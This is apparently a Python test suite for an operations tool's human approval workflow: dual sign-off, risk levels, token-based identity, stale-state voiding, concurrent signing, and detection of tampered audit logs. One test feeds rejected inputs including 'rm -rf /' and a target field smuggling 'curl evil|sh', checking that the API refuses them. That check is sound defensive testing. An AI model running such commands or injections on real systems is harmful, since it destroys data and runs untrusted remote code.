"""The human side of the loop over HTTP: proposals become approval requests, people sign with their
own tokens, the dry-run runs again before execution, and the audit trail proves every step.

Runs `awoooi serve` on embedded defaults (the simulated demo cluster, the demo users)."""
import concurrent.futures
import json
import os
import sqlite3
import subprocess
import unittest

from harness import AWOOOI, ServerTest, wait_for

DEMO = os.path.join(os.path.dirname(__file__), "..", "..", "examples", "alerts", "demo-incident.json")


class ApprovalLoop(ServerTest):
    def post_demo_alert(self):
        with open(DEMO) as f:
            status, _, _ = self.server.request("POST", "/api/v1/alerts/alertmanager", body=f.read(),
                                               headers={"Content-Type": "application/json"})
        self.assertEqual(status, 200)

    def approvals(self, query=""):
        status, body = self.server.get_json("/api/v1/approvals" + query)
        self.assertEqual(status, 200, body)
        return body["approvals"]

    def sign(self, who, approval, fingerprint=None, decision="approve", comment="ok"):
        payload = {"comment": comment}
        if decision == "approve":
            payload["state_fingerprint"] = fingerprint or approval["dry_run"]["state_fingerprint"]
        return self.server.post_json(f"/api/v1/approvals/{approval['id']}/{decision}", payload,
                                     token=self.server.tokens[who])

    def request_action(self, who, action):
        return self.server.post_json("/api/v1/actions", action, token=self.server.tokens[who])

    def test_the_demo_alert_becomes_a_high_approval_that_executes_after_alice_and_bob(self):
        self.post_demo_alert()
        wait_for(lambda: self.approvals("?status=pending"), what="an approval request")
        [a] = self.approvals("?status=pending")
        self.assertEqual(a["action"]["kind"], "restart_pod")
        self.assertEqual(a["action"]["target"], "postgres-db")
        self.assertEqual(a["risk"]["effective"], "HIGH", a["risk"])
        self.assertEqual(a["factors"][0]["count"], 2)
        self.assertTrue(a["dry_run"]["passed"])
        self.assertIn("postgres-db-0", a["dry_run"]["summary"])
        self.assertTrue(a["can_sign"])
        # The proposal row carries the same hash the approval binds to.
        status, proposal = self.server.get_json(f"/api/v1/proposals/{a['proposal_id']}")
        self.assertEqual(status, 200)
        self.assertIn(a["action"]["action_hash"], [x["action_hash"] for x in proposal["actions"]])

        status, after_alice = self.sign("alice", a)
        self.assertEqual(status, 200, after_alice)
        self.assertEqual(after_alice["status"], "pending")
        self.assertFalse(after_alice["can_sign"])
        self.assertEqual(after_alice["why_not"], "you already signed")
        status, again = self.sign("alice", a)
        self.assertEqual(status, 409, again)
        status, done = self.sign("bob", a)
        self.assertEqual(status, 200, done)
        self.assertEqual(done["status"], "succeeded", done)
        self.assertIn("postgres-db-0", done["result"]["detail"])
        status, cluster = self.server.get_json("/api/v1/cluster")
        [db_pod] = [p for p in cluster["pods"] if p["owner"] == "postgres-db"]
        self.assertEqual(db_pod["restarts"], 1)
        status, trust = self.server.get_json("/api/v1/trust")
        self.assertEqual({p["pattern"]: p["score"] for p in trust["patterns"]}["restart_pod:production/postgres-db"], 1)

    def test_a_critical_action_needs_the_cto_and_the_ciso(self):
        status, a = self.request_action("alice", {"kind": "delete_pvc", "target": "data-postgres-backup",
                                                  "params": {"namespace": "production"}})
        self.assertEqual(status, 201, a)
        self.assertEqual(a["risk"]["effective"], "CRITICAL", a["risk"])
        self.assertEqual(a["requested_by"], "alice")
        for sre in ("bob", "alice"):
            status, body = self.sign(sre, a)
            self.assertEqual(status, 403, body)
        status, body = self.sign("carol", a)
        self.assertEqual((status, body["status"]), (200, "pending"))
        status, body = self.sign("dave", a)
        self.assertEqual((status, body["status"]), (200, "succeeded"), body)

    def test_a_state_change_between_signatures_voids_the_request(self):
        status, a = self.request_action("admin", {"kind": "restart_pod", "target": "postgres-db",
                                                  "params": {"namespace": "production"}})
        self.assertEqual(status, 201, a)
        self.assertEqual(self.sign("alice", a)[0], 200)
        status, _ = self.server.post_json("/api/v1/cluster/pods/production/postgres-db-0/restart", {},
                                          token=self.server.tokens["admin"])
        self.assertEqual(status, 200)
        status, body = self.sign("bob", a)
        self.assertEqual(status, 200, body)
        self.assertEqual(body["status"], "voided")
        self.assertIn("state changed", body["reason"])
        self.assertEqual(len(body["signatures"]), 2)

    def test_refusals_carry_their_reason(self):
        status, a = self.request_action("alice", {"kind": "restart_pod", "target": "frontend",
                                                  "params": {"namespace": "production"}})
        self.assertEqual(status, 201, a)
        self.assertEqual(a["risk"]["effective"], "MEDIUM")
        # A viewer token, made with the CLI as an operator would.
        out = subprocess.run([AWOOOI, "token", "create", "--user", "vic", "--role", "viewer",
                              "--data-dir", self.server.data_dir], capture_output=True, text=True)
        viewer = out.stdout.strip().splitlines()[-1]
        cases = [
            (viewer, {"state_fingerprint": a["dry_run"]["state_fingerprint"]}, 403, "viewers cannot sign"),
            (self.server.tokens["alice"], {"state_fingerprint": a["dry_run"]["state_fingerprint"]}, 403,
             "you requested this action"),
            (self.server.tokens["bob"], {"state_fingerprint": "0" * 64}, 409, "stale"),
            (self.server.tokens["bob"], {}, 400, "state_fingerprint"),
            # A forged identity in the body changes nothing: the token decides.
            (self.server.tokens["alice"], {"state_fingerprint": a["dry_run"]["state_fingerprint"], "user": "bob",
                                           "role": "sre"}, 403, "you requested"),
        ]
        for token, payload, want, text in cases:
            status, body = self.server.post_json(f"/api/v1/approvals/{a['id']}/approve", payload, token=token)
            self.assertEqual(status, want, body)
            self.assertIn(text, body["error"]["message"])
        status, body = self.server.post_json("/api/v1/approvals/999/approve", {"state_fingerprint": "x"},
                                             token=self.server.tokens["bob"])
        self.assertEqual(status, 404)
        # A removed user's token stops working (within the one-second token cache).
        subprocess.run([AWOOOI, "user", "remove", "vic", "--data-dir", self.server.data_dir], check=True,
                       capture_output=True)
        wait_for(lambda: self.server.get("/api/v1/approvals", token=viewer)[0] == 401, timeout=5,
                 what="the removed user's token refused")
        # One eligible rejection ends it; nothing approves it afterwards.
        status, body = self.sign("bob", a, decision="reject", comment="not during the sale")
        self.assertEqual((status, body["status"]), (200, "rejected"), body)
        status, body = self.sign("admin", a)
        self.assertEqual(status, 409)

    def test_actions_requested_by_hand_are_typed(self):
        for bad in ({"kind": "run_command", "target": "frontend", "params": {"command": "rm -rf /"}},
                    {"kind": "restart_pod", "target": "frontend; curl evil|sh"},
                    {"kind": "scale", "target": "frontend", "params": {"replicas": "-3"}},
                    {"kind": "restart_pod", "target": "frontend", "params": {"namespace": "--all"}}):
            status, body = self.request_action("alice", bad)
            self.assertEqual(status, 400, (bad, body))

    def test_fifty_concurrent_signatures_execute_once(self):
        status, a = self.request_action("admin", {"kind": "scale", "target": "order-api",
                                                  "params": {"namespace": "production", "replicas": "0"}})
        self.assertEqual((status, a["risk"]["effective"]), (201, "HIGH"), a)
        fp = a["dry_run"]["state_fingerprint"]
        who = ["alice", "bob", "carol", "dave"]

        def one(i):
            return self.server.post_json(f"/api/v1/approvals/{a['id']}/approve", {"state_fingerprint": fp},
                                         token=self.server.tokens[who[i % 2]])[0]

        with concurrent.futures.ThreadPoolExecutor(16) as pool:
            codes = list(pool.map(one, range(50)))
        self.assertEqual(codes.count(200), 2, codes)
        status, final = self.server.get_json(f"/api/v1/approvals/{a['id']}")
        self.assertEqual(final["status"], "succeeded")
        status, audit = self.server.get_json(f"/api/v1/audit?kind=execution&subject=approval/{a['id']}")
        self.assertEqual(len(audit["entries"]), 1)


class AuditTampering(ServerTest):
    config = "audit:\n  checkpoint_every: 1\n"

    def test_verify_names_each_kind_of_tampering(self):
        for i in range(3):
            status, a = self.server.post_json("/api/v1/actions", {"kind": "restart_pod", "target": "frontend",
                                                                  "params": {"namespace": "production"}},
                                              token=self.server.tokens["alice"])
            self.assertEqual(status, 201, a)
        status, verify = self.server.get_json("/api/v1/audit/verify")
        self.assertTrue(verify["ok"], verify)
        entries = verify["entries"]
        wait_for(lambda: any(c["tree_size"] >= entries for c in
                             self.server.get_json("/api/v1/audit/checkpoints")[1]["checkpoints"]),
                 what="a checkpoint covering every entry")
        self.server.stop()
        db = os.path.join(self.server.data_dir, "awoooi.db")

        def cli_verify():
            out = subprocess.run([AWOOOI, "audit", "verify", "--data-dir", self.server.data_dir],
                                 capture_output=True, text=True)
            return out.returncode, out.stdout + out.stderr

        code, text = cli_verify()
        self.assertEqual(code, 0, text)
        self.assertIn("audit trail OK", text)

        def tamper(sql):
            con = sqlite3.connect(db)
            con.execute(sql)
            con.commit()
            con.close()

        con = sqlite3.connect(db)
        rows = con.execute("SELECT seq, detail FROM audit_log ORDER BY seq").fetchall()
        con.close()
        self.assertGreaterEqual(len(rows), 4)
        with open(db, "rb") as f:
            backup = f.read()

        def restore():
            with open(db, "wb") as f:
                f.write(backup)
            for suffix in ("-wal", "-shm"):
                if os.path.exists(db + suffix):
                    os.remove(db + suffix)

        # Edited.
        tamper("UPDATE audit_log SET detail = '{\"forged\":true}' WHERE seq = 3")
        code, text = cli_verify()
        self.assertNotEqual(code, 0)
        self.assertIn("entry 3", text)
        restore()
        # Deleted.
        tamper("DELETE FROM audit_log WHERE seq = 2")
        code, text = cli_verify()
        self.assertNotEqual(code, 0)
        self.assertIn("entry 2", text)
        restore()
        # Reordered (two entries swap places).
        tamper("UPDATE audit_log SET seq = -1 WHERE seq = 2")
        tamper("UPDATE audit_log SET seq = 2 WHERE seq = 3")
        tamper("UPDATE audit_log SET seq = 3 WHERE seq = -1")
        code, text = cli_verify()
        self.assertNotEqual(code, 0)
        self.assertIn("entry 2", text)
        restore()
        # The tail cut off.
        last = rows[-1][0]
        tamper(f"DELETE FROM audit_log WHERE seq = {last}")
        code, text = cli_verify()
        self.assertNotEqual(code, 0, text)
        self.assertIn("removed", text)
        restore()
        code, text = cli_verify()
        self.assertEqual(code, 0, text)


if __name__ == "__main__":
    unittest.main()
